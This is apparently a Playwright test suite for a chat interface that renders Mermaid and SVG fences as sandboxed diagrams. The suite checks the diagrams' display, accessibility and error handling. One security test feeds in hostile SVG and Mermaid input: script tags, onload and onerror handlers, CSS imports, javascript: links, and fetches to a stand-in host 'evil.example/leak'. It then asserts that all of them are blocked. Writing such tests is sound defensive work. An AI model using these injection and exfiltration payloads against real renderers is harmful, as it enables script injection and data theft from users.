import { expect, expectAccessible, test } from "./fixture";
import { answers, converse } from "./reader";

const flow =
  "flowchart TD\n  A[North] -->|blows| B{Cold?}\n  B -->|yes| C[Tramontane]\n  B -->|no| D[Sirocco]";
const alt = /^A diagram\./;

test("a Mermaid fence is drawn, and its code is one button away", async ({ page }) => {
  await converse(page, `[[scenario:echo]] See:\n\n\`\`\`mermaid\n${flow}\n\`\`\`\n\nThat was it.`);
  const picture = answers(page).getByRole("img", { name: alt });
  await expect(picture).toBeVisible();
  const svg = decodeURIComponent((await picture.getAttribute("src")) ?? "");
  for (const label of ["North", "Tramontane", "Sirocco", "blows"]) expect(svg).toContain(label);
  await expectAccessible(page);

  await answers(page).getByRole("button", { name: "Show the code" }).click();
  await expect(picture).toBeHidden();
  await expect(answers(page).locator("pre")).toHaveText(flow);
  await answers(page).getByRole("button", { name: "Show the diagram" }).click();
  await expect(picture).toBeVisible();

  await answers(page).getByRole("button", { name: "Enlarge" }).click();
  await expect(page.getByRole("dialog", { name: "Diagram" }).getByRole("img", { name: alt })).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(answers(page).getByRole("button", { name: "Enlarge" })).toBeFocused();
});

test("nothing moves when the picture comes", async ({ page }) => {
  await converse(page, `[[scenario:echo]] See:\n\n\`\`\`mermaid\n${flow}\n\`\`\`\n\nThat was it.`);
  const below = answers(page).getByText("That was it.");
  let before: unknown;
  // The library comes late: the code holds the place until then.
  await page.route(/mermaid/, async (route) => {
    await expect(answers(page).locator("pre")).toBeVisible();
    before = await below.boundingBox();
    await route.continue();
  });
  await page.reload();
  await expect(answers(page).getByRole("img", { name: alt })).toBeVisible();
  expect(await below.boundingBox()).toEqual(before);
});

test("a Mermaid fence with a mistake says so and shows its code", async ({ page }) => {
  await converse(page, "[[scenario:echo]]\n```mermaid\nflowchart TD\n  A --> --> B[\n```\n");
  await expect(answers(page).getByText(/^This can’t be drawn/)).toBeVisible();
  await expect(answers(page).locator("pre")).toContainText("A --> --> B[");
  await expect(answers(page).getByRole("button", { name: "Show the diagram" })).toBeHidden();
});

test("an SVG fence is drawn, even without its name space; a broken one shows its code", async ({ page }) => {
  await converse(
    page,
    '[[scenario:echo]]\n```svg\n<svg viewBox="0 0 40 20"><circle cx="20" cy="10" r="8" fill="orange"/></svg>\n```\n\n```svg\n<svg><g></svg>\n```\n',
  );
  await expect(answers(page).getByRole("img", { name: alt })).toBeVisible();
  await expect(answers(page).getByText(/^This can’t be drawn/)).toHaveCount(1);
});

test.describe("what a drawing tries is refused", () => {
  // The policies of the page and of the frame say what they refused.
  test.use({ expectedNoise: [/Content Security Policy/] });

  test("a drawing acts as little as any picture: no script, no address, no link", async ({ page }) => {
    const fetched: string[] = [];
    await page.route("https://evil.example/**", (route) => {
      fetched.push(route.request().url());
      return route.abort();
    });
    await page.addInitScript(() => {
      Object.assign(window, { marks: [], mark: (name: string) => Reflect.get(window, "marks").push(name) });
    });
    const evil = "https://evil.example/leak";
    await converse(
      page,
      [
        "[[scenario:echo]]",
        "```svg",
        `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="parent.mark('load')">`,
        `<style>@import "${evil}/1"; rect { fill: url("${evil}/2") } @font-face { font-family: a; src: url("${evil}/3") }</style>`,
        `<script>parent.mark('script'); fetch("${evil}/4")</script><image href="${evil}/5" width="5" height="5"/>`,
        `<use href="${evil}/6#a"/><rect width="9" height="9"/><text style="font-family: a">x</text>`,
        `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}/7" onerror="parent.mark('error')"/>`,
        `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/8"/></foreignObject></svg>`,
        "```",
        "",
        "```mermaid",
        `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "themeCSS": "@import '${evil}/9'; rect { fill: url(${evil}/10) }"}}%%`,
        "flowchart TD",
        `  A["<img src='${evil}/11' onerror='parent.mark(1)'>hello"] --> B["<script>parent.mark(2)</script>there"]`,
        `  click A "javascript:parent.mark(3)"`,
        `  click B href "${evil}/12"`,
        "```",
      ].join("\n"),
    );
    await expect(answers(page).getByRole("img", { name: alt })).toHaveCount(2);
    await answers(page).getByRole("img", { name: alt }).last().click();
    for (const frame of page.frames())
      if (frame !== page.mainFrame()) await frame.evaluate(() => document.title);
    expect(await page.evaluate(() => Reflect.get(window, "marks"))).toEqual([]);
    expect(fetched).toEqual([]);
  });

  test("the frame that draws has no origin, no storage, no network and no way out", async ({
    page,
    request,
  }) => {
    const response = await request.get("/api/diagram-frame");
    expect(response.headers()["content-security-policy"]).toMatch(
      /^sandbox allow-scripts; default-src 'none'; script-src 'nonce-[0-9a-f-]{36}';/,
    );
    await converse(page, `[[scenario:echo]]\n\`\`\`mermaid\n${flow}\n\`\`\`\n`);
    await expect(answers(page).getByRole("img", { name: alt })).toBeVisible();
    const frame = page.frames().find((one) => one.url().endsWith("/api/diagram-frame"));
    const able = await frame?.evaluate(async () => {
      const tries: Record<string, () => unknown> = {
        storage: () => localStorage.length,
        cookie: () => document.cookie,
        page: () => parent.document.title,
        top: () => top?.document.title,
        network: () => fetch("/api/models"),
      };
      const worked: string[] = [self.origin];
      for (const [name, attempt] of Object.entries(tries)) {
        try {
          await attempt();
          worked.push(name);
        } catch {}
      }
      return worked;
    });
    expect(able).toEqual(["null"]);
  });
});
